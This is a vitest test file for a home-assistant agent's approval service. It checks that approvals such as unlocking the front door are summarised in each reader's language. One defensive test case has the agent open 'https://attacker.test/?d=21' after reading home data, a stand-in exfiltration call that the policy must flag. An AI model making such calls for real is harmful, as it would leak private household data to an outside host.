/**
 * An approval is read in the reader's language: the summary written again by the call's tool, the
 * reason from the policy's kept wording. What was approved is the call, so the words follow the
 * reader; when they cannot be made again for that very call, the stored words are shown.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { UserIdentity } from '../../../src/contracts/identity.js';
import { EventBus } from '../../../src/events/bus.js';
import { createLogger } from '../../../src/logger.js';
import { wordIn } from '../../../src/messages/wording.js';
import { createApprovalGate } from '../../../src/policy/approvals/approval-gate.js';
import type { DescribeStoredCall } from '../../../src/policy/approvals/approval-words.js';
import { ApprovalService, type ApprovalEvents } from '../../../src/policy/approvals/approvals.js';
import type { PolicyContext } from '../../../src/policy/policy.js';
import { AuditLog } from '../../../src/store/audit.js';
import { ApprovalStore } from '../../../src/store/approvals.js';
import { closeDatabase, openDatabase, type Database } from '../../../src/store/database.js';
import { policyOver, testTools, type PlainCall } from './described-calls.js';
import { smallHome } from './small-home.js';

const alice: UserIdentity = { id: 'user-admin', name: 'alice', displayName: 'Alice', via: 'ingress' };
const bob: UserIdentity = { id: 'user-bob', name: 'bob', displayName: 'Bob', via: 'ingress' };

const UNLOCK = { domain: 'lock', service: 'unlock', target: { entity_id: 'lock.front_door' } };
const unlock: PlainCall = { tool: 'ha_call_service', effect: 'write', input: UNLOCK };
const tools = testTools({ home: { ...smallHome(), get: (id) => (id === 'lock.front_door' ? { name: 'Front Door' } : undefined) } });
const policy = policyOver(tools);
const byRegistry: DescribeStoredCall = (tool, input, language) => tools.describeKnown(tool, input, language);

const EN = { summary: 'Unlock Front Door (lock.front_door)', reason: 'unlocking or opening a lock needs a yes (lock.front_door)' };
const FR = { summary: 'Déverrouiller Front Door (lock.front_door)', reason: 'déverrouiller ou ouvrir une serrure demande un oui (lock.front_door)' };

let db: Database;
let services: ApprovalService[];
beforeEach(() => {
  db = openDatabase(':memory:');
  services = [];
});
afterEach(() => {
  for (const service of services) service.stop();
  closeDatabase(db);
});

function setup(describe: DescribeStoredCall = byRegistry) {
  const service = new ApprovalService({
    store: new ApprovalStore(db),
    audit: new AuditLog(db),
    canApprove: async (user) => user.id === alice.id,
    canApproveNow: async (user) => user.id === alice.id,
    timeoutMs: 60_000,
    events: new EventBus<ApprovalEvents>(createLogger('silent')),
    describe,
  });
  services.push(service);
  const gate = createApprovalGate({ service });
  /** Bob asks, in `language`, for a call as the runner hands it over: described and judged in his language. */
  const ask = (call: PlainCall = unlock, context: Partial<PolicyContext> = {}) => {
    const full: PolicyContext = { user: bob, conversationId: 'conv-1', channel: 'http', language: 'en', ...context };
    const verdict = policy.decide(call, full);
    const description = tools.describe(call.tool, call.input, full.language);
    let id = '';
    const outcome = gate.request({ tool: call.tool, input: call.input, description, reason: verdict.reason, reasonWords: verdict.reasonWords }, full, (e) => {
      if (e.type === 'approval_required') id = e.approval_id;
    }, new AbortController().signal);
    return { id, outcome };
  };
  return { service, ask };
}

describe('the policy’s reason, kept before it is worded', () => {
  const tainted = { tainted: { source: 'a mail from mallory@example.com' } };
  const home = { egress: { homeData: 'ha_get_state', knownHosts: [] } };
  const cases: Array<[string, PlainCall, Partial<PolicyContext>]> = [
    ['a rule naming its targets', unlock, {}],
    ['no rule at all', { tool: 'ha_call_service', effect: 'write', input: { domain: 'input_boolean', service: 'turn_on', target: { entity_id: 'input_boolean.vacation_mode' } } }, {}],
    ['a rule, and taint too', unlock, tainted],
    ['an allowed call that taint turns into a question', { tool: 'ha_call_service', effect: 'write', input: { domain: 'light', service: 'turn_on', target: { entity_id: 'light.kitchen' } } }, tainted],
    ['a new address after reading the home', { tool: 'browser_open', effect: 'external', input: { url: 'https://attacker.test/?d=21' } }, home],
  ];

  it.each(cases)('%s: worded in French, it is what the policy says in French', (_name, call, extra) => {
    const context = (language: string): PolicyContext => ({ user: bob, conversationId: 'c1', channel: 'http', language, ...extra });
    const english = policy.decide(call, context('en'));
    const french = policy.decide(call, context('fr'));
    expect(english.effect).toBe('ask');
    expect(english.reasonWords).toBeDefined();
    expect(wordIn('fr', english.reasonWords!)).toBe(french.reason);
    expect(wordIn('en', english.reasonWords!)).toBe(english.reason);
    expect(french.reason).not.toBe(english.reason);
  });
});

describe('an approval in the reader’s words', () => {
  it('lists what and why in the reader’s language, and as asked when no language is given', async () => {
    const { service, ask } = setup();
    ask();
    expect(await service.list({ user: alice, language: 'fr' })).toEqual([expect.objectContaining(FR)]);
    expect(await service.list({ user: alice, language: 'en-GB' })).toEqual([expect.objectContaining(EN)]);
    expect(await service.list({ user: alice })).toEqual([expect.objectContaining(EN)]);
    // The requester's own list follows their reading language too.
    expect(await service.list({ user: bob, language: 'fr-CA' })).toEqual([expect.objectContaining(FR)]);
  });

  it('a French request reads in English for an English approver; the decision comes back in the decider’s words', async () => {
    const { service, ask } = setup();
    const { id, outcome } = ask(unlock, { language: 'fr' });
    expect(await service.list({ user: alice })).toEqual([expect.objectContaining(FR)]);
    expect(await service.list({ user: alice, language: 'en' })).toEqual([expect.objectContaining(EN)]);
    expect(await service.decide(id, 'approve', alice, 'panel', 'en')).toMatchObject({ status: 'approved', ...EN });
    await outcome;
    expect(service.closedAnswer(id, 'en')).toEqual({ summary: EN.summary, text: 'This approval was already approved by Alice.' });
    expect(service.closedAnswer(id, 'fr')).toEqual({ summary: FR.summary, text: 'Cette demande a déjà été approuvée par Alice.' });
  });

  it('a tool that is gone (or cannot say) keeps the summary it was asked with', async () => {
    const gone = setup(() => undefined);
    gone.ask();
    expect(await gone.service.list({ user: alice, language: 'fr' })).toEqual([expect.objectContaining({ summary: EN.summary, reason: FR.reason })]);
    const broken = setup(() => {
      throw new Error('the page is gone');
    });
    broken.ask();
    expect((await broken.service.list({ user: alice, language: 'fr' })).map((a) => a.summary)).toEqual([EN.summary, EN.summary]);
  });

  it('a call that would act on other things now keeps the summary of what was approved', async () => {
    // The entrance grew a lock while the approval waited: described again, it is another call.
    const grown: DescribeStoredCall = (tool, input, language) => {
      const again = tools.describeKnown(tool, input, language);
      return again && { summary: 'Déverrouiller Front Door, Back Door', actsOn: ['lock.back_door', 'lock.front_door'] };
    };
    const { service, ask } = setup(grown);
    ask();
    expect(await service.list({ user: alice, language: 'fr' })).toEqual([expect.objectContaining({ summary: EN.summary, reason: FR.reason })]);
  });

  it('an approval stored without the policy’s wording shows the reason it was asked with', async () => {
    const { service } = setup();
    const { actsOn } = tools.describe('ha_call_service', UNLOCK);
    service.create({ tool: 'ha_call_service', input: UNLOCK, summary: EN.summary, reason: EN.reason, requester: bob, channel: 'http', ...(actsOn && { actsOn }) });
    expect(await service.list({ user: alice, language: 'fr' })).toEqual([expect.objectContaining({ summary: FR.summary, reason: EN.reason })]);
  });
});
